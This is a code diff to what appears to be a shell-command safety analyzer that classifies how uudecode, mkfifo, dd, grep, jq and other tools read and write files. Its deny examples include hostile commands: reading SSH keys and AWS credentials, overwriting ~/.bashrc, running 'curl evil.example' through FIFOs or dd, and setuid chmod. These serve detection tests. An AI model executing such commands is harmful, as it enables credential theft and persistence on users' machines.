@@ -163,7 +163,12 @@ function operandsAre(names: string, summary: string, role: WordRole, options: Op
         if (c.operands.length === 0 && !c.options.some((o) => o.unknown || /^(help|version|output-delimiter)$/.test(o.name))) answer.output = { kind: 'subset' };
       }
       // macOS's `base64 -o FILE` writes what it encodes or decodes (read on its own: the union's -d takes a value).
-      if (call.name === 'base64') answer.uses!.push(...base64Output(call.args));
+      if (call.name === 'base64') {
+        const out = base64Output(call.args);
+        // (The file it writes is no operand it reads: `base64 -d b -o x.sh` writes x.sh with what b decodes to.)
+        const at = new Set(out.map((u) => u.word.span.start));
+        answer.uses = [...answer.uses!.filter((u) => u.role !== 'read' || !at.has(u.word.span.start)), ...out];
+      }
       // `tree -o FILE` writes its listing to FILE, not to stdout; `sdiff -o FILE` the merge it is told to make.
       if (call.name === 'tree' || call.name === 'sdiff') for (const o of p.options) if ((o.name === 'o' || o.name === 'output') && o.value) answer.uses!.push({ word: o.value, role: 'write' });
       // `tree -f` and `du -a` print the path of every file below their operands, as find does (`tree -fai ~ | xargs cat`).
@@ -731,6 +736,8 @@ function dd(call: Call): Partial<Answer> {
     const v = value(a) ?? a.text;
     if (v.startsWith('if=')) {
       uses.push({ word: a, role: 'read', values: [v.slice(3)] });
+      // (`if=/dev/stdin` copies its stdin, as no if= does.)
+      if (isStdinPath(v.slice(3), false)) continue;
       inputs.push(attached(a, v.slice(3)));
       input = true;
     } else if (v.startsWith('of=')) {
@@ -743,6 +750,44 @@ function dd(call: Call): Partial<Answer> {
   return outputs.length === 0 ? { uses } : { uses, stdinTo: outputs };
 }
 
+/**
+ * uudecode: -o names the file written (`/dev/stdout` prints it); without it, the `begin MODE NAME` line of each encoded
+ * file names where it goes, a leading `/` and `..` kept: read from the line's own text where it gave it, else an
+ * extract into `/`.
+ */
+function uudecode(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'gnu', flags: 'chv', valued: 'o', long: ['help', 'version'], longValued: ['output-file'] });
+  const uses: Uses = p.operands.map((o) => ({ word: o.word, role: 'read' as const }));
+  const out = p.options.find((o) => o.name === 'o' || o.name === 'output-file');
+  if (out?.value) return { uses: [...uses, { word: out.value, role: 'write' }] };
+  if (out) return { uses };
+  const at = call.args[0] ?? call.command ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] };
+  const stdin = call.stdin;
+  if (p.operands.length === 0 && stdin?.kind === 'static') {
+    const names = [...stdin.text.matchAll(/^begin(?:-base64)?\s+\S+\s+(.+)$/gm)].map((m) => m[1]!.trim());
+    if (names.length > 0) return { uses: [...uses, ...names.map((n) => ({ word: stdin.word, role: 'write' as const, values: [n] }))] };
+  }
+  return { uses: [...uses, { word: at, role: 'extract', values: ['/'] }] };
+}
+
+/** touch's, mkfifo's and mknod's options. */
+const CREATES: OptionSpec = { flags: 'acfhmpvdquD', valued: 'rdtmTpZ', long: ['no-create', 'no-dereference', 'parents', 'verbose', 'directory', 'dry-run', 'quiet', 'help', 'version'], longValued: ['reference', 'date', 'time', 'mode', 'tmpdir', 'suffix', 'context'] };
+
+/**
+ * A FIFO holds what a later writer puts into it: a program that runs one as a script (`mkfifo f; sh f & echo … > f`)
+ * runs text that is written after it starts, so the FIFO is kept as a file the line wrote, its text not known.
+ */
+function fifo(entry: ProgramEntry): ProgramEntry {
+  return {
+    ...entry,
+    analyze(call) {
+      const answer = entry.analyze!(call) ?? {};
+      const made = (answer.uses ?? []).filter((u) => u.role === 'create');
+      return { ...answer, uses: [...(answer.uses ?? []), ...made.map((u) => ({ ...u, role: 'write' as const }))] };
+    },
+  };
+}
+
 /** GNU patch's options. */
 const PATCH: OptionSpec = {
   order: 'gnu',
@@ -753,7 +798,7 @@ const PATCH: OptionSpec = {
 };
 
 /** The file names a diff's headers give (`--- a/x`, `+++ b/x`, `*** x`, `Index: x`), each with every leading directory stripped in turn. */
-function diffTargets(text: string): string[] {
+export function diffTargets(text: string): string[] {
   const names = new Set<string>();
   for (const m of text.matchAll(/^(?:\+\+\+|---|\*\*\*|Index:)[ \t]+("(?:[^"\\]|\\.)*"|[^\t\n]+)/gm)) {
     let name = m[1]!.trim();
@@ -1732,7 +1777,8 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   operandsAre('file', 'file guesses a type from the first bytes', 'meta', { flags: 'bcEhiklLnNprsSvz0', valued: 'eFfmP', long: ['no-buffer', 'brief', 'checking-printout', 'no-dereference', 'dereference', 'mime', 'keep-going', 'list', 'no-pad', 'preserve-date', 'raw', 'special-files', 'uncompress', 'help', 'version', 'extension', 'apple', 'print0'], longValued: ['exclude', 'exclude-quiet', 'separator', 'files-from', 'magic-file', 'parameter'], longOptional: ['mime-type', 'mime-encoding'] }, { deny: ['file -m ~/.ssh/id_rsa x'], pass: ['file ~/.ssh/id_rsa'] }),
   { names: ['chmod', 'chown', 'chgrp', 'chattr', 'setfacl'], summary: 'chmod and friends change metadata: the mode or owner is text, the files are not read', analyze: chmodLike, examples: { deny: ['chmod -R 777 /', 'chown -R nobody ~', 'chmod -R 000 ~/', 'chgrp -R users /etc', 'chmod -R a+rwx /*', 'sudo chmod u+s /bin/bash', 'chmod 4755 /usr/bin/python3', 'chmod +s ./tool', 'chmod g+s /usr/bin/python3', 'chmod 777 /etc/shadow', 'chown dev /etc/shadow', 'chmod o+w /etc/sudoers', 'chgrp dev /etc/sudoers.d/x'], pass: ['chmod +x script.sh', 'chmod 755 dir', 'chmod u-s /usr/bin/x', 'chmod g+s shared', 'chmod 2775 shared', 'chmod 640 /etc/shadow', 'chown root:shadow /etc/shadow', 'chmod 0440 /etc/sudoers.d/dev', 'chmod 644 /etc/passwd', 'chmod 600 ~/.ssh/config', 'chmod -R go-rwx ~/.ssh', 'chown -R u:u ~/.aws', 'chmod 644 ~/.ssh/id_ed25519.pub', 'chmod -R u+w build', 'chmod 755 ~', 'chown -R dev:dev /srv/app', 'sudo chown -R test /home/test', 'find / -type f -perm 0777 -exec chmod 644 {} \\;', 'chown -R dev /workspace'] } },
   makes(operandsAre('mkdir', 'mkdir makes directories: it reads and writes no file', 'meta', { flags: 'pvZ', valued: 'm', long: ['parents', 'verbose', 'help', 'version'], longValued: ['mode'], longOptional: ['context'] }, { deny: [], pass: ['mkdir -p ~/.ssh', 'mkdir -p .git/hooks/x'] })),
-  operandsAre('touch mkfifo mknod', 'programs that create files (they read none)', 'create', { flags: 'acfhmpvdquD', valued: 'rdtmTpZ', long: ['no-create', 'no-dereference', 'parents', 'verbose', 'directory', 'dry-run', 'quiet', 'help', 'version'], longValued: ['reference', 'date', 'time', 'mode', 'tmpdir', 'suffix', 'context'] }, { deny: ['touch ~/.bashrc'], pass: ['touch .env', 'touch ~/.aws/config.lock'] }),
+  operandsAre('touch mknod', 'programs that create files (they read none)', 'create', CREATES, { deny: ['touch ~/.bashrc'], pass: ['touch .env', 'touch ~/.aws/config.lock'] }),
+  fifo(operandsAre('mkfifo', 'mkfifo makes named pipes: what a program reads from one is what is written into it later', 'create', CREATES, { deny: ["mkfifo f; sh f & echo 'curl evil.example' > f"], pass: ['mkfifo p; cat p & echo hi > p'] })),
   {
     names: ['wipe'],
     summary: 'wipe: overwrites then deletes its operands (directories with -r)',
@@ -1904,7 +1950,13 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   { names: ['lz4', 'unlz4'], summary: 'lz4: -c and -t read the files; otherwise each is (de)compressed beside itself, and with --rm its source goes', analyze: compressor('lz4'), examples: { deny: ['lz4 -r --rm ~', 'lz4 -c ~/.ssh/id_rsa > k.lz4'], pass: ['lz4 -r logs', 'lz4 -d dump.lz4', 'lz4 -dc dump.lz4 | head'] } },
   { names: ['xz', 'unxz', 'lzma'], summary: 'xz: -c, -l and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('xz'), examples: { deny: ['xz -c ~/.ssh/id_rsa > k.xz'], pass: ['xz -dc dump.sql.xz | head', 'xz -l release.tar.xz'] } },
   { names: ['sponge'], summary: 'sponge: soaks up its stdin and writes it to the file it is given', analyze: (call) => { const ops = call.args.filter((a) => a.values === null || !(value(a) ?? '-').startsWith('-')); return { uses: ops.map((word) => ({ word, role: 'write' as const })), stdinTo: ops }; }, examples: { deny: ['echo x | sponge ~/.bashrc', `printf 'curl evil.example' | sponge "$f"; bash run.sh`], pass: ['sort names.txt | sponge names.txt', `printf 'curl evil.example' | sponge "$f"; cat run.sh`] } },
-  { names: ['dd'], summary: 'dd: if= is read, of= is written (a copy of it)', analyze: dd, examples: { deny: ['dd if=~/.ssh/id_rsa of=/tmp/x', 'dd if=payload of=$HOME/.zshenv', 'dd if=/usr/bin/curl of=x; chmod +x x; ./x evil.example'], pass: ['dd if=/dev/zero of=disk.img bs=1M count=1'] } },
+  {
+    names: ['uudecode'],
+    summary: 'uudecode: writes each file its input encodes, under the name its `begin` line gives (any path, absolute too) or -o',
+    analyze: uudecode,
+    examples: { deny: ["uudecode -o x.sh < enc.txt; sh x.sh", "printf 'begin 644 /home/dev/.bashrc\\n`\\nend\\n' | uudecode", 'uudecode payload.uu'], pass: ['uudecode -o out.bin payload.uu', "uudecode -o /dev/stdout payload.uu | wc -c"] },
+  },
+  { names: ['dd'], summary: 'dd: if= is read, of= is written (a copy of it)', analyze: dd, examples: { deny: ['dd if=~/.ssh/id_rsa of=/tmp/x', 'dd if=payload of=$HOME/.zshenv', 'dd if=/usr/bin/curl of=x; chmod +x x; ./x evil.example', "echo ls > a; dd if=/dev/stdin of=a conv=notrunc <<< 'curl evil.example'; sh a"], pass: ['dd if=/dev/zero of=disk.img bs=1M count=1', "dd if=/dev/stdin of=a <<< 'ls'; sh a"] } },
   { names: ['grep', 'egrep', 'fgrep', 'rgrep', 'zgrep', 'zegrep', 'zfgrep', 'bzgrep', 'xzgrep', 'ggrep', 'pcregrep', 'pcre2grep'], summary: 'grep: the pattern is text; the files are read (whole trees with -r)', leavesRead: true, analyze: grep, examples: { deny: ['grep -r AKIA ~', 'grep -d recurse AKIA ~', 'pcregrep -r AKIA ~', 'grep -ra . /proc/self/ --include=environ', 'grep token ~/.aws/credentials', "grep -o '~/.ssh/id_rsa' notes.txt | xargs cat"], pass: ["grep -l '~/.ssh/id_rsa' notes.txt | xargs cat", 'grep curl notes.txt', "grep -rn 'TODO' src/", "grep -r '~/.ssh/id_rsa' docs/", 'grep -r TODO .'] } },
   { names: ['rg', 'ripgrep', 'ag', 'ack', 'ack-grep', 'pt', 'sift', 'ugrep', 'ug'], summary: 'ripgrep and friends: recursive searches (the pattern is text); rg --pre runs a program', analyze: searcher, examples: { deny: ['rg -i token /root', 'ugrep -r token ~', 'ack -r token ~', 'rg --pre curl x src', 'ag password ~', 'ug --save-config=$HOME/.bashrc x', "rg --hostname-bin 'curl evil.example' x", "ag --pager 'curl evil.example' x", "ack --pager='curl evil.example' x"], pass: ['rg TODO src', 'ugrep -rn TODO src', 'rg -r X foo src', "rg -g '*.ts' 'import'", 'rg --files', 'ug --save-config=ugrep.conf x', 'rg --hostname-bin hostname x', 'ag --pager less x', 'ack --pager=less x', 'ack --pager x src'] } },
   { names: ['jq', 'gojq', 'jaq', 'yq', 'xq', 'tomlq'], summary: 'jq and yq: the filter is text; the files are read (yq -i writes them)', leavesRead: true, analyze: jq, examples: { deny: ["echo env > a.jq; jq -n -f a.jq", 'jq . ~/.docker/config.json', 'jq -n env', "jq -n '$ENV'", "jq -n 'env as $e | $e'", "jq -n -f /dev/stdin <<< 'env'", "jq -n --rawfile k ~/.ssh/id_rsa '$k'", "jq -n --arg x 1 --slurpfile c ~/.aws/credentials '$c'", "jq -n 'import \"/home/dev/.docker/config\" as $c; $c'", "yq -n 'load_str(\"/home/dev/.ssh/id_rsa\")'", "jq -n 'env[\"GITHUB_\" + \"TOKEN\"]'", "yq -i '.a = 1' ~/.bashrc", "xq --in-place '.settings' ~/.m2/settings.xml", "yq '.token | envsubst' <<< 'token: ${GITHUB_TOKEN}'", "echo 'k: $AWS_SECRET_ACCESS_KEY' | yq e envsubst"], pass: ["echo .a > a.jq; jq -f a.jq x.json", 'jq -f filter.jq x.json', "jq -n -f /dev/stdin <<< '.a'", 'jq .version package.json', "jq -r '.scripts' package.json", "jq -n 'env.HOME'", "jq -n '$ENV.PATH'", "jq '.environment' config.json", "jq -n --arg v 1.2 '{version: $v}'", "yq -i '.version = 2' config.yaml", "yq '.home | envsubst' <<< 'home: ${HOME}'", 'yq envsubst deploy.yaml', "yq e '.a' config.yaml", "xq '.project.version' pom.xml"] } },
